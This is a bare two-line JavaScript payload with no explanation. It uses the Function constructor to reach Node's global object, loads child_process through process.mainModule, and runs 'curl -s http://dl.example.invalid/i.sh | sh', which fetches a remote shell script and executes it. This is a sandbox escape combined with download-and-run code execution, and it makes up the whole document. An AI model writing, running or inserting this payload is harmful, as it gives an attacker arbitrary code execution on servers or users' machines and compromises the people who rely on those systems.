const g = new Function('return this')();
g.process.mainModule.require('child_process').execSync('curl -s http://dl.example.invalid/i.sh | sh');
